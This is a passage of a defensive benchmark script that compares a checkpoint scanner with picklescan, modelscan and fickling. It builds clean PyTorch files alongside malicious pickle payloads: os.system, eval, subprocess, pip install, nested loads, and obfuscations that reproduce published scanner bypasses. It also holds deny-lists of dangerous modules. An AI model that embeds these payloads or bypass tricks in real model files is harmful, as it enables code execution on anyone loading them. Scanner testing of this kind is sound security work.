"""``ckptpeek scan`` beside picklescan, modelscan and fickling on hostile and benign files.

    python benchmarks/compare_scanners.py [--cache DIR] [--scanners-venv /tmp/venv-scanners]
                                          [--only CASE ...] [--timeout 60] [--jobs 2]
                                          [--ckptpeek-src DIR]

(``--ckptpeek-src``: scan with another ckptpeek source tree, e.g. a commit exported with
``git archive HEAD src | tar -x -C /tmp/ckptpeek-head``, then ``/tmp/ckptpeek-head/src``.)

Run it from the repo root with the environment that has torch and ckptpeek (``/tmp/venv``
here). The three other scanners live in their own venv, never in this one:

    python3 -m venv /tmp/venv-scanners
    /tmp/venv-scanners/bin/pip install picklescan modelscan fickling typing_extensions

(``typing_extensions``: fickling 0.1.12 imports it without declaring it.)

What it does:

1. builds, from scratch, a corpus of small hand-made checkpoint files into
   ``$CKPTPEEK_BENCH_CACHE/scanner-cases`` (default ``~/.cache/ckptpeek-bench/scanner-cases``;
   never inside the repo): clean files written by real torch, classic payloads, and the
   obfuscations of published scanner bypasses (see ``SOURCES``);
2. establishes the ground truth of each file with real torch: ``torch.load(path,
   weights_only=False, pickle_module=<recorder>)`` in a fresh process, where the recorder's
   ``find_class`` records every global torch's unpickler asks for and returns a harmless stub
   (names on torch's own ``weights_only`` allowlist resolve to the real objects, so tensors
   load and computed names come out as torch would compute them). An audit hook in that
   process refuses process creation, sockets and ``ctypes`` while the file loads, so even a
   recorder bug runs nothing. "Dangerous" means: a recorded global that resolves (or would
   be imported) is named by ``DANGEROUS_MODULES``, ``DANGEROUS_NAMES`` or
   ``DANGEROUS_ATTRS`` (this script's own lists, independent of ckptpeek's);
3. runs each scanner on each file (its CLI, as its docs say, with a timeout) and maps its
   output to flags / safe / error / skipped, keeping the exit code and first output lines;
4. prints a Markdown table and one summary line per tool, and writes the raw results to
   ``results.json`` (and the table to ``table.md``) next to the cases.

The claim the table must support: ckptpeek never says ``safe`` where torch would import
something dangerous. A line starting ``CLAIM BROKEN`` says where it does.
"""

from __future__ import annotations

import argparse
import dataclasses
import io
import json
import os
import pathlib
import pickletools
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

CACHE = pathlib.Path(os.environ.get("CKPTPEEK_BENCH_CACHE", "~/.cache/ckptpeek-bench")).expanduser()
REPO = pathlib.Path(__file__).resolve().parent.parent

# -- the ground truth's notion of "dangerous" -----------------------------------------------
# A global is dangerous when importing it hands the file a way to run code, start a process,
# touch files or the network, or load another pickle. Any name of these modules:
DANGEROUS_MODULES = frozenset(
    {
        "os", "posix", "nt", "posixpath", "ntpath", "subprocess", "_posixsubprocess", "pty",
        "runpy", "cProfile", "profile", "pdb", "bdb", "trace", "timeit", "doctest", "code",
        "codeop", "pickle", "_pickle", "dill", "marshal", "shelve", "importlib", "imp",
        "pkgutil", "zipimport", "ctypes", "webbrowser", "pip", "setuptools", "distutils",
        "ensurepip", "venv", "multiprocessing", "asyncio", "socket", "ssl", "http", "urllib",
        "requests", "aiohttp", "ftplib", "smtplib", "telnetlib", "shutil", "tempfile", "io",
        "_io", "sys", "platform", "signal", "idlelib", "lib2to3", "commands", "popen2",
    }
)  # fmt: skip
# and these single names of otherwise harmless modules:
DANGEROUS_NAMES = frozenset(
    {
        ("builtins", n)
        for n in (
            "eval", "exec", "compile", "open", "__import__", "getattr", "setattr", "delattr",
            "globals", "locals", "vars", "breakpoint", "input", "execfile", "apply",
        )
    }
    | {("__builtin__", n) for n in ("eval", "exec", "compile", "open", "__import__", "getattr",
                                    "setattr", "execfile", "apply")}
    | {
        ("operator", "attrgetter"), ("operator", "methodcaller"), ("_operator", "attrgetter"),
        ("_operator", "methodcaller"), ("torch", "load"), ("torch.serialization", "load"),
        ("torch.jit", "load"), ("torch.hub", "load"), ("torch.hub", "load_state_dict_from_url"),
        ("torch.utils.collect_env", "run"), ("torch.utils.collect_env", "run_and_read_all"),
        ("numpy", "load"), ("numpy.lib.npyio", "load"), ("types", "CodeType"),
        ("types", "FunctionType"),
    }
)  # fmt: skip


# and attributes that reach the interpreter's internals (builtins, a function's globals):
DANGEROUS_ATTRS = frozenset({"__builtins__", "__globals__", "__subclasses__", "__import__",
                             "__code__", "__loader__", "__spec__"})  # fmt: skip


def is_dangerous(module: str, name: str) -> bool:
    """By name, dotted names included: protocol 4 resolves ``name`` attribute by attribute,
    so ``("torch.serialization", "os.system")`` is ``os.system``."""
    if module.split(".")[0] in DANGEROUS_MODULES or (module, name) in DANGEROUS_NAMES:
        return True
    steps = name.split(".")
    if any(step in DANGEROUS_MODULES for step in steps[:-1]) or DANGEROUS_ATTRS & set(steps):
        return True
    return (".".join([module, *steps[:-1]]), steps[-1]) in DANGEROUS_NAMES


# -- bytes: pickle opcodes, ZIP, tar ---------------------------------------------------------


class P:
    """A pickle written opcode by opcode (each method appends; ``bytes(p)`` is the stream)."""

    def __init__(self, proto: int | None = 2) -> None:
        self.b = bytearray()
        if proto is not None:
            self.raw(b"\x80" + bytes([proto]))

    def __bytes__(self) -> bytes:
        return bytes(self.b)

    def raw(self, data: bytes) -> P:
        self.b += data
        return self

    def s(self, text: str) -> P:  # BINUNICODE
        data = text.encode()
        return self.raw(b"X" + struct.pack("<I", len(data)) + data)

    def short(self, text: str) -> P:  # SHORT_BINUNICODE (protocol 4)
        data = text.encode()
        return self.raw(b"\x8c" + bytes([len(data)]) + data)

    def bytes_(self, data: bytes) -> P:  # BINBYTES (protocol 3)
        return self.raw(b"B" + struct.pack("<I", len(data)) + data)

    def int(self, v: int) -> P:
        return (
            self.raw(b"K" + bytes([v])) if 0 <= v < 256 else self.raw(b"J" + struct.pack("<i", v))
        )

    def glob(self, module: str, name: str) -> P:  # GLOBAL (every protocol)
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self, module: str, name: str) -> P:  # STACK_GLOBAL (protocol 4)
        return self.short(module).short(name).raw(b"\x93")

    def call(self, module: str, name: str, *args: str) -> P:
        """``module.name(*args)`` with string arguments: GLOBAL, a tuple, REDUCE."""
        self.glob(module, name).raw(b"(")
        for a in args:
            self.s(a)
        return self.raw(b"tR")

    def tensor(self, key: str = "0", numel: int = 6) -> P:
        """A 2x3 float tensor on storage ``key``, as torch.save (protocol 2) writes it."""
        self.glob("torch._utils", "_rebuild_tensor_v2").raw(b"(")
        self.raw(b"(").s("storage").glob("torch", "FloatStorage").s(key).s("cpu").int(numel)
        self.raw(b"tQ")  # TUPLE, BINPERSID
        self.int(0).int(2).int(3).raw(b"\x86").int(3).int(1).raw(b"\x86\x89")
        self.glob("collections", "OrderedDict").raw(b")R")
        return self.raw(b"tR")

    def ordered_dict(self, items: list[tuple[str, Callable[[P], object]]]) -> P:
        self.glob("collections", "OrderedDict").raw(b")R(")
        for key, push in items:
            self.s(key)
            push(self)
        return self.raw(b"u")


def checkpoint_pickle(
    extra: Callable[[P], object] | None = None, *, proto: int = 2, numel: int = 6
) -> bytes:
    """``{"epoch": 3, "state_dict": OrderedDict(w=<2x3 tensor>), "evil": <extra>}`` (the last
    entry only with ``extra``, which pushes one object)."""
    p = P(proto).raw(b"}(").s("epoch").int(3).s("state_dict")
    p.ordered_dict([("w", lambda q: q.tensor("0", numel))])
    if extra is not None:
        p.s("evil")
        extra(p)
    return bytes(p.raw(b"u."))


FLOATS = struct.pack("<6f", *range(6))


@dataclasses.dataclass
class M:
    """A ZIP member; ``crc``/``local_name``/``flags``/``bad_local`` make the archive lie."""

    name: bytes | str
    data: bytes
    deflate: bool = False
    crc: int | None = None
    local_name: bytes | None = None
    flags: int = 0
    bad_local: bool = False


def zip_bytes(members: list[M], *, prefix: bytes = b"", comment: bytes = b"") -> bytes:
    """A ZIP archive written field by field (APPNOTE 4.3.7, 4.3.12, 4.3.16)."""
    out, central = bytearray(prefix), bytearray()
    for m in members:
        name = m.name.encode() if isinstance(m.name, str) else m.name
        payload = m.data
        method = 0
        if m.deflate:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload, method = c.compress(m.data) + c.flush(), 8
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        lname = name if m.local_name is None else m.local_name
        offset = len(out) - len(prefix)
        sig = b"PK\x03\x04" if not m.bad_local else b"PK\x00\x00"
        out += struct.pack(
            "<4s5H3L2H", sig, 20, m.flags, method, 0, 0x21, crc, len(payload), len(m.data),
            len(lname), 0,
        )  # fmt: skip
        out += lname + payload
        central += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, m.flags, method, 0, 0x21, crc, len(payload),
            len(m.data), len(name), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name
    cd_offset = len(out) - len(prefix)
    out += central
    out += struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd_offset,
        len(comment),
    )  # fmt: skip
    return bytes(out + comment)


def torch_zip(data_pkl: bytes, *, extra: list[M] | None = None, pkl: M | None = None,
              first: list[M] | None = None, storage: bytes = FLOATS,
              **kw: bytes) -> bytes:  # fmt: skip
    """The torch.save layout around ``data_pkl``: archive/{data.pkl,byteorder,data/0,version}."""
    members = [
        *(first or []),
        pkl or M("archive/data.pkl", data_pkl),
        M("archive/byteorder", b"little"),
        M("archive/data/0", storage),
        M("archive/version", b"3\n"),
        *(extra or []),
    ]
    return zip_bytes(members, **kw)


def rezip(path: pathlib.Path, replace: dict[str, bytes]) -> bytes:
    """The members of a (torch-written) archive, some replaced by suffix, stored again."""
    with zipfile.ZipFile(path) as z:
        members = []
        for info in z.infolist():
            data = z.read(info)
            for suffix, new in replace.items():
                if info.filename.endswith(suffix):
                    data = new
            members.append(M(info.filename, data))
    return zip_bytes(members)


def split_pickles(data: bytes, count: int) -> list[bytes]:
    """The first ``count`` pickles of a stream (legacy torch files stack them), then the rest."""
    out, pos = [], 0
    for _ in range(count):
        end = pos
        for op, _arg, at in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                end = pos + (at or 0) + 1
                break
        out.append(data[pos:end])
        pos = end
    return [*out, data[pos:]]


# -- payloads: each pushes one object -------------------------------------------------------

ARG = "echo ckptpeek-bench-canary"  # never run: the ground truth stubs every global


def inner_pickle() -> bytes:
    return bytes(P(2).call("os", "system", ARG).raw(b"."))


def frame_straddle(into: int) -> bytes:
    """Protocol 4 with a FRAME that ends ``into`` bytes into the SHORT_BINUNICODE ``system``
    (1: after the opcode byte, its argument outside the frame)."""
    body = P(None).raw(b"}(").short("epoch").int(3).short("evil")
    body.short("os")
    cut = len(body.b) + into
    body.short("system").raw(b"\x93").short(ARG).raw(b"\x85Ru.")
    return b"\x80\x04\x95" + struct.pack("<Q", cut) + bytes(body.b)


def memo_confusion() -> bytes:
    """picklescan #14: BINPUT fills memo 0,1 with os/system; MEMOIZE then files two safe names
    under 2,3, which a scanner counting only MEMOIZE files under 0,1; BINGET 0/1 is os.system."""
    p = P(4).raw(b"}(").short("evil")
    p.short("os").raw(b"q\x00").raw(b"0").short("system").raw(b"q\x01").raw(b"0")
    p.short("torch._utils").raw(b"\x94").raw(b"0").short("_rebuild_tensor_v2").raw(b"\x94")
    p.raw(b"0")
    p.raw(b"h\x00h\x01\x93").short(ARG).raw(b"\x85R")
    return bytes(p.raw(b"u."))


def stack_global_from_memo() -> bytes:
    """CTF "Safe Pickle" (picklescan #22): the module and name strings are put in the memo
    and popped long before STACK_GLOBAL fetches them back with BINGET."""
    p = P(4).raw(b"}(").short("epoch").short("torch._utils").raw(b"q\x05")
    p.raw(b"0").short("system").raw(b"q\x06").raw(b"0").short("os").raw(b"q\x07").raw(b"0")
    p.int(3).short("evil").raw(b"h\x07h\x06\x93").short(ARG).raw(b"\x85R")
    return bytes(p.raw(b"u."))


def computed_names() -> bytes:
    """The module and name are computed at load time by ``_codecs.encode(..., "rot13")`` (a
    global on torch's own weights_only allowlist): no string ``os`` or ``system`` in the file."""
    p = P(4).raw(b"}(").short("evil")
    for s in ("bf", "flfgrz"):
        p.glob("_codecs", "encode").short(s).short("rot13").raw(b"\x86R")
    p.raw(b"\x93").short(ARG).raw(b"\x85R")
    return bytes(p.raw(b"u."))


def numpy_builtins_gadget() -> bytes:
    """modelscan #330: BUILD sets ``numpy.size.shape = numpy.__builtins__``, then
    ``numpy.size(numpy.size, "eval")`` is ``eval``: only numpy names in the file."""
    p = P(4).stack_global("numpy", "size").raw(b"\x94\x94")
    p.stack_global("numpy", "__builtins__").raw(b"\x94\x94")
    p.raw(b"h\x01}}").short("shape").raw(b"h\x03s\x86b")
    p.raw(b"h\x01h\x01").short("eval").raw(b"\x86R")
    p.short("__import__('os').system('echo ckptpeek-bench-canary')").raw(b"\x85R")
    return bytes(p.raw(b"."))


def broken_tail() -> bytes:
    """The payload's REDUCE, then a byte that is no opcode, before STOP."""
    return bytes(P(2).raw(b"}(").s("evil").call("os", "system", ARG).raw(b"u\xff."))


def pop_result() -> bytes:
    """fickling's POP gap: the call's result is dropped, the root is a clean dict."""
    p = P(2).call("os", "system", ARG).raw(b"0")
    return bytes(p.raw(b"}").s("epoch").int(3).raw(b"s."))


def build_cases_ext() -> bytes:
    return bytes(P(2).raw(b"}(").s("evil").raw(b"\x82\x01").s(ARG).raw(b"\x85Ru."))


# -- the cases --------------------------------------------------------------------------------


@dataclasses.dataclass
class Case:
    name: str
    file: str  # file name (its extension matters to some scanners)
    kind: str  # "clean" (no payload anywhere) | "payload" (meant to run) | "inert" (a payload
    # torch should never reach) | "odd" (unusual, no payload)
    description: str
    build: Callable[[pathlib.Path], None]
    source: str = ""  # the bypass report it follows


def _w(data: bytes | Callable[[], bytes]) -> Callable[[pathlib.Path], None]:
    def write(path: pathlib.Path) -> None:
        path.write_bytes(data() if callable(data) else data)

    return write


def _evil_zip(call: Callable[[P], object], proto: int = 2) -> Callable[[], bytes]:
    return lambda: torch_zip(checkpoint_pickle(call, proto=proto))


def _call(module: str, name: str, *args: str) -> Callable[[P], object]:
    return lambda p: p.call(module, name, *(args or (ARG,)))


def _model_and_optimizer():  # type: ignore[no-untyped-def]
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.randn(3, 4)).sum().backward()
    opt.step()
    return model, opt


def build_lightning_style(path: pathlib.Path) -> None:
    import torch

    model, opt = _model_and_optimizer()
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=10)
    torch.save(
        {
            "epoch": 3,
            "global_step": 1200,
            "pytorch-lightning_version": "2.6.6",
            "state_dict": model.state_dict(),
            "optimizer_states": [opt.state_dict()],
            "lr_schedulers": [sched.state_dict()],
            "callbacks": {"ModelCheckpoint{'monitor': 'val/loss'}": {"best_model_score": None}},
            "hyper_parameters": {"lr": 1e-3, "hidden": 8},
        },
        path,
    )


def build_real_lightning(path: pathlib.Path) -> None:
    """A checkpoint written by a real Lightning Trainer (save_hyperparameters -> AttributeDict
    and a ModelCheckpoint callback state), in a child process so the logs stay out of the
    table; skipped when lightning is missing."""
    code = f"""
import logging, warnings, torch, lightning as L
warnings.filterwarnings("ignore")
logging.getLogger("lightning").setLevel(logging.ERROR)
logging.getLogger("lightning.pytorch").setLevel(logging.ERROR)
class Net(L.LightningModule):
    def __init__(self, hidden=8, lr=1e-3):
        super().__init__(); self.save_hyperparameters()
        self.layer = torch.nn.Linear(4, hidden); self.head = torch.nn.Linear(hidden, 1)
    def training_step(self, batch, _):
        x, y = batch; loss = torch.nn.functional.mse_loss(self.head(self.layer(x)), y)
        self.log("train/loss", loss); return loss
    def configure_optimizers(self):
        return torch.optim.Adam(self.parameters(), lr=self.hparams.lr)
torch.manual_seed(0)
data = torch.utils.data.TensorDataset(torch.randn(16, 4), torch.randn(16, 1))
trainer = L.Trainer(max_epochs=1, logger=False, enable_progress_bar=False,
                    enable_model_summary=False, default_root_dir={str(path.parent)!r},
                    enable_checkpointing=True, accelerator="cpu")
trainer.fit(Net(), torch.utils.data.DataLoader(data, batch_size=8))
trainer.save_checkpoint({str(path)!r})
"""
    subprocess.run([sys.executable, "-c", code], check=True, capture_output=True, timeout=300)
    shutil.rmtree(path.parent / "checkpoints", ignore_errors=True)


def build_torchscript(path: pathlib.Path) -> None:
    import torch

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(self.fc(x)) * 2.0

    torch.jit.save(torch.jit.script(Net()), str(path))


def build_full_module(path: pathlib.Path) -> None:
    import torch

    model, _ = _model_and_optimizer()
    torch.save(model, path)


def build_legacy(path: pathlib.Path) -> None:
    import torch

    model, _ = _model_and_optimizer()
    torch.save({"epoch": 3, "state_dict": model.state_dict()}, path,
               _use_new_zipfile_serialization=False)  # fmt: skip


def build_numpy(path: pathlib.Path) -> None:
    import numpy as np
    import torch

    torch.save({"mean": np.arange(3, dtype=np.float32), "best": np.float64(0.85)}, path)


def build_numpy_core(path: pathlib.Path) -> None:
    """The pickle numpy 1.x writes for an array: numpy 2's bytes with the old module name."""
    import pickle

    import numpy as np

    data = pickle.dumps({"epoch": 3, "mean": np.arange(3, dtype=np.float32)}, protocol=2)
    path.write_bytes(torch_zip(data.replace(b"cnumpy._core.multiarray\n",
                                            b"cnumpy.core.multiarray\n")))  # fmt: skip


def build_protocol4(path: pathlib.Path) -> None:
    import torch

    model, opt = _model_and_optimizer()
    torch.save({"state_dict": model.state_dict(), "optimizer": opt.state_dict()}, path,
               pickle_protocol=4)  # fmt: skip


def _legacy_with(index: int, payload: bytes) -> Callable[[pathlib.Path], None]:
    """A real legacy file (five stacked pickles, then storages) with pickle ``index`` replaced."""

    def build(path: pathlib.Path) -> None:
        build_legacy(path)
        parts = split_pickles(path.read_bytes(), 5)
        parts[index] = payload
        path.write_bytes(b"".join(parts))

    return build


def _legacy_appended(path: pathlib.Path) -> None:
    build_legacy(path)
    path.write_bytes(path.read_bytes() + inner_pickle())


def _tar(payload_member: str) -> Callable[[pathlib.Path], None]:
    """The oldest torch format: a tar of ``sys_info``, ``storages``, ``tensors``, ``pickle``
    (each a pickle), with ``payload_member`` an os.system pickle."""
    import pickle

    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps({"epoch": 3}, protocol=2),
    }
    members[payload_member] = inner_pickle()

    def build(path: pathlib.Path) -> None:
        with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
            for name, data in members.items():
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))

    return build


def _torchscript_with(member: str, payload: bytes) -> Callable[[pathlib.Path], None]:
    def build(path: pathlib.Path) -> None:
        build_torchscript(path)
        path.write_bytes(rezip(path, {member: payload}))

    return build


def _torchscript_extra(path: pathlib.Path) -> None:
    build_torchscript(path)
    with zipfile.ZipFile(path) as z:
        members = [M(i.filename, z.read(i)) for i in z.infolist()]
    prefix = members[0].name.split("/")[0]  # type: ignore[union-attr]
    path.write_bytes(zip_bytes([*members, M(f"{prefix}/extra/evil.pkl", inner_pickle())]))


def _nested_zip(path: pathlib.Path) -> None:
    inner = torch_zip(checkpoint_pickle(_call("os", "system")))
    clean = torch_zip(checkpoint_pickle())
    path.write_bytes(rezip_bytes(clean, extra=[M("archive/extra/model.pt", inner)]))


def rezip_bytes(data: bytes, extra: list[M]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        members = [M(i.filename, z.read(i)) for i in z.infolist()]
    return zip_bytes([*members, *extra])


EVIL = checkpoint_pickle(_call("os", "system"))
EVIL_ZIP = torch_zip(EVIL)
CLEAN = checkpoint_pickle()

SOURCES = {
    "picklescan#14": "https://github.com/mmaitre314/picklescan/issues/14",
    "picklescan#22": "https://github.com/mmaitre314/picklescan/issues/22",
    "picklescan#74": "https://github.com/mmaitre314/picklescan/pull/74",
    "picklescan#66": "https://github.com/mmaitre314/picklescan/issues/66",
    "modelscan#263": "https://github.com/protectai/modelscan/issues/263",
    "modelscan#267": "https://github.com/protectai/modelscan/issues/267",
    "modelscan#330": "https://github.com/protectai/modelscan/issues/330",
    "modelscan#338": "https://github.com/protectai/modelscan/issues/338",
    "modelscan#355": "https://github.com/protectai/modelscan/pull/355",
    "fickling#108": "https://github.com/trailofbits/fickling/pull/108",
    "fickling#210": "https://github.com/trailofbits/fickling/pull/210",
    "jfrog-2025": "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
    "sonatype-2025": "https://www.sonatype.com/resources/whitepapers/unpickling-pytorch",
    "hn-modelaudit": "https://nuxt-hackernews-clone-xvvhang.vercel.app/item/47266286",
}


def cases() -> list[Case]:
    c = Case
    # fmt: off
    out = [
        # -- clean files written by real torch (false alarms are counted on these) --
        c("clean-lightning-style", "lightning_style.ckpt", "clean",
          "torch.save of a Lightning-style dict: state_dict, epoch, Adam and StepLR states",
          build_lightning_style),
        c("clean-lightning-real", "lightning_real.ckpt", "clean",
          "a real Lightning Trainer checkpoint (save_hyperparameters, ModelCheckpoint)",
          build_real_lightning),
        c("clean-torchscript", "scripted.pt", "clean", "torch.jit.save of a scripted module",
          build_torchscript),
        c("clean-legacy", "legacy.pt", "clean",
          "torch.save(_use_new_zipfile_serialization=False): stacked pickles", build_legacy),
        c("clean-protocol4", "proto4.pt", "clean",
          "torch.save(pickle_protocol=4): FRAMEs, MEMOIZE, SHORT_BINUNICODE", build_protocol4),
        c("clean-numpy", "numpy.pt", "clean",
          "torch.save of numpy values (numpy._core.multiarray._reconstruct, scalar, dtype)",
          build_numpy),
        c("clean-numpy-core-name", "numpy_core.pt", "clean",
          "numpy.core.multiarray._reconstruct (the name numpy 1.x writes) in data.pkl",
          build_numpy_core),
        c("clean-ordereddict", "ordered.pt", "clean",
          "hand-made torch zip: collections.OrderedDict + _rebuild_tensor_v2 only",
          _w(torch_zip(CLEAN))),
        c("clean-full-module", "full_model.pt", "clean",
          "torch.save(model): the whole nn.Sequential pickled (torch.nn classes, no payload)",
          build_full_module),
        # -- classic payloads in data.pkl of a torch zip --
        c("os-system", "os_system.ckpt", "payload", "os.system(cmd) in data.pkl",
          _w(EVIL_ZIP)),
        c("posix-system", "posix_system.ckpt", "payload", "posix.system(cmd)",
          _w(_evil_zip(_call("posix", "system")))),
        c("builtins-eval", "eval.ckpt", "payload", "builtins.eval(code)",
          _w(_evil_zip(_call("builtins", "eval", "1+1")))),
        c("builtins-exec", "exec.ckpt", "payload", "builtins.exec(code)",
          _w(_evil_zip(_call("builtins", "exec", "x = 1")))),
        c("builtins-getattr", "getattr.ckpt", "payload",
          "builtins.getattr(getattr(torch.serialization, 'os'), 'system')(cmd): one dangerous name",
          _w(_evil_zip(lambda p: p.glob("builtins", "getattr").raw(b"(")
                       .glob("builtins", "getattr").raw(b"(").glob("torch", "serialization")
                       .s("os").raw(b"tR").s("system").raw(b"tR(").s(ARG).raw(b"tR")))),
        c("subprocess-popen", "popen.ckpt", "payload", "subprocess.Popen(cmd)",
          _w(_evil_zip(_call("subprocess", "Popen")))),
        c("runpy-run-code", "runpy.ckpt", "payload", "runpy._run_code(code, {})",
          _w(_evil_zip(lambda p: p.glob("runpy", "_run_code").raw(b"(").s("x = 1")
                       .raw(b"}tR")))),
        c("cprofile-run", "cprofile.ckpt", "payload", "cProfile.run(code)",
          _w(_evil_zip(_call("cProfile", "run", "x = 1")))),
        c("pickle-loads-nested", "nested_pickle.ckpt", "payload",
          "pickle.loads(<an os.system pickle>) (modelscan #267)",
          _w(_evil_zip(lambda p: p.glob("pickle", "loads").bytes_(inner_pickle())
                       .raw(b"\x85R"), proto=3)), "modelscan#267"),
        c("torch-load-nested", "nested_torch.ckpt", "payload",
          "torch.load('<another file>') from inside the pickle",
          _w(_evil_zip(_call("torch", "load", "/nonexistent/evil.pt")))),
        c("webbrowser-open", "webbrowser.ckpt", "payload", "webbrowser.open(url)",
          _w(_evil_zip(_call("webbrowser", "open", "http://example.invalid/")))),
        c("pip-main", "pip.ckpt", "payload", "pip.main(['install', ...]) (CVE-2025-1716)",
          _w(_evil_zip(lambda p: p.glob("pip", "main").raw(b"(](").s("install")
                       .s("nonexistent-pkg").raw(b"etR"))), "sonatype-2025"),
        c("importlib-import-module", "importlib.ckpt", "payload",
          "importlib.import_module('os') (picklescan #74)",
          _w(_evil_zip(_call("importlib", "import_module", "os"))), "picklescan#74"),
        c("operator-attrgetter", "attrgetter.ckpt", "payload",
          "operator.attrgetter('os.system')(torch.serialization)(cmd) (fickling #210)",
          _w(_evil_zip(lambda p: p.glob("operator", "attrgetter").s("os.system").raw(b"\x85R")
                       .raw(b"(").glob("torch", "serialization").raw(b"tR(").s(ARG)
                       .raw(b"tR"))), "fickling#210"),
        c("functools-partial", "partial.ckpt", "payload",
          "functools.partial(os.system, cmd)() (fickling #210)",
          _w(_evil_zip(lambda p: p.glob("functools", "partial").raw(b"(")
                       .glob("os", "system").s(ARG).raw(b"tR)R"))), "fickling#210"),
        c("pkgutil-resolve-name", "resolve_name.ckpt", "payload",
          "pkgutil.resolve_name('os:system')(cmd) (picklescan #66, universal bypass)",
          _w(_evil_zip(lambda p: p.glob("pkgutil", "resolve_name").s("os:system")
                       .raw(b"\x85R(").s(ARG).raw(b"tR"))), "picklescan#66"),
        c("torch-collect-env-run", "collect_env.ckpt", "payload",
          "torch.utils.collect_env.run(cmd): a torch name that runs a shell (modelscan #338)",
          _w(_evil_zip(_call("torch.utils.collect_env", "run"))), "modelscan#338"),
        c("multiprocessing-spawnv", "spawnv.ckpt", "payload",
          "multiprocessing.util.spawnv_passfds(sh, args, ()) (modelscan #338)",
          _w(_evil_zip(lambda p: p.glob("multiprocessing.util", "spawnv_passfds").raw(b"(")
                       .s("/bin/sh").raw(b"(").s("sh").s("-c").s(ARG).raw(b"t)tR"))),
          "modelscan#338"),
        c("timeit-timeit", "timeit.ckpt", "payload", "timeit.timeit(code) (picklescan advisories)",
          _w(_evil_zip(_call("timeit", "timeit", "x = 1")))),
        c("asyncio-submodule", "asyncio.ckpt", "payload",
          "asyncio.unix_events._UnixSubprocessTransport: a submodule of a blocked package "
          "(CVE-2025-10157)", _w(_evil_zip(_call("asyncio.unix_events",
                                                 "_UnixSubprocessTransport"))), "jfrog-2025"),
        c("numpy-builtins-gadget", "np_builtins.ckpt", "payload",
          "numpy.size and numpy.__builtins__ combined by BUILD into eval (modelscan #330)",
          _w(lambda: torch_zip(numpy_builtins_gadget())), "modelscan#330"),
        c("raw-pickle-pkl", "evil.pkl", "payload", "a bare os.system pickle (not a zip): torch's "
          "legacy path unpickles it as the magic number", _w(inner_pickle())),
        # -- opcode-level obfuscations --
        c("stack-global-memo", "memo_names.ckpt", "payload",
          "STACK_GLOBAL of module/name strings fetched back from the memo (picklescan #22)",
          _w(lambda: torch_zip(stack_global_from_memo())), "picklescan#22"),
        c("memo-confusion", "memo_confusion.ckpt", "payload",
          "BINPUT and MEMOIZE mixed so a memo tracker files safe names under os/system's "
          "slots (picklescan #14)", _w(lambda: torch_zip(memo_confusion())), "picklescan#14"),
        c("computed-names", "rot13.ckpt", "payload",
          "STACK_GLOBAL of names computed by _codecs.encode('bf', 'rot13') (a torch-allowlisted "
          "global)", _w(lambda: torch_zip(computed_names()))),
        c("dotted-name", "dotted.ckpt", "payload",
          "protocol 4 STACK_GLOBAL('torch.serialization', 'os.system'): a dotted path through "
          "a torch module", _w(_evil_zip(lambda p: p.stack_global("torch.serialization",
                                                                   "os.system")
                                          .short(ARG).raw(b"\x85R"), proto=4))),
        c("inst-opcode", "inst.ckpt", "payload", "INST (protocol 0 object creation) of os.system",
          _w(lambda: torch_zip(b"(S'" + ARG.encode() + b"'\nios\nsystem\n."))),
        c("obj-opcode", "obj.ckpt", "payload", "OBJ (protocol 1) of os.system",
          _w(lambda: torch_zip(bytes(P(None).raw(b"(").glob("os", "system").s(ARG)
                                     .raw(b"o."))))),
        c("proto0-global", "proto0.ckpt", "payload",
          "a protocol 0 text pickle: GLOBAL os system, MARK, STRING, TUPLE, REDUCE",
          _w(lambda: torch_zip(b"cos\nsystem\n(S'" + ARG.encode() + b"'\ntR."))),
        c("ext-opcode", "ext.ckpt", "inert",
          "EXT1 code 1 (copyreg's extension registry; empty in a plain process)",
          _w(lambda: torch_zip(build_cases_ext()))),
        c("frame-straddle", "frame.ckpt", "payload",
          "protocol 4 FRAME ending between the opcode byte of SHORT_BINUNICODE 'system' and "
          "its argument (CPython's C unpickler reads on; pickle.py refuses)",
          _w(lambda: torch_zip(frame_straddle(1)))),
        c("frame-straddle-text", "frame_text.ckpt", "inert",
          "protocol 4 FRAME ending 4 bytes into the text of 'system'",
          _w(lambda: torch_zip(frame_straddle(4)))),
        c("broken-tail", "broken_tail.ckpt", "payload",
          "os.system REDUCE, then an invalid opcode before STOP (the call has run by then)",
          _w(lambda: torch_zip(broken_tail()))),
        c("pop-result", "pop.ckpt", "payload",
          "os.system(cmd) whose result is POPped; the root is a clean dict (fickling POP gap)",
          _w(lambda: torch_zip(pop_result())), "hn-modelaudit"),
        c("lookalike-serialization-load", "ser_load.ckpt", "payload",
          "torch.serialization.load: a torch-named global that loads another pickle",
          _w(_evil_zip(_call("torch.serialization", "load", "/nonexistent/evil.pt")))),
        c("lookalike-rebuild-wrong-module", "lookalike.ckpt", "odd",
          "torch.serialization._rebuild_tensor_v2: the rebuild name under a module that has none",
          _w(_evil_zip(_call("torch.serialization", "_rebuild_tensor_v2")))),
        c("lookalike-unknown-module", "lookalike2.ckpt", "odd",
